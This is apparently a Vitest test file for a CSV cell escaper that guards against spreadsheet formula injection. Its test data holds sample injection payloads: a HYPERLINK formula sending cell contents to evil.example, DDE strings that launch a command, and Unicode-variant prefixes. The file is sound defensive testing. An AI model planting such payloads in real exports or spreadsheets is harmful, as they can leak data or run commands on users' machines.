import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csvCell.ts';

describe('a cell that a spreadsheet would run', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '"=1+1',
    "'=1+1",
    '“=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u202e=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    '﹦1+1',
    '−1+1',
    '\tplain after a tab',
  ])('%j begins with an apostrophe', (value) => {
    expect(csvCell(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
  });
});

describe('a cell that is only text', () => {
  it.each(['', 'a=b', '1-2', 'name@example.com', 'https://www.example.com/?a=1', '<img alt="-">', '#id > a'])(
    '%j stays as it is',
    (value) => {
      expect(csvCell(value)).toBe(`"${value.replaceAll('"', '""')}"`);
    },
  );

  it('may hold quotes, separators and line breaks', () => {
    expect(csvCell('a "b", c;\r\nd')).toBe('"a ""b"", c;\r\nd"');
  });
});

it('a record ends with a line break of RFC 4180', () => {
  expect(csvRow(['a', '=b'])).toBe('"a","\'=b"\r\n');
});
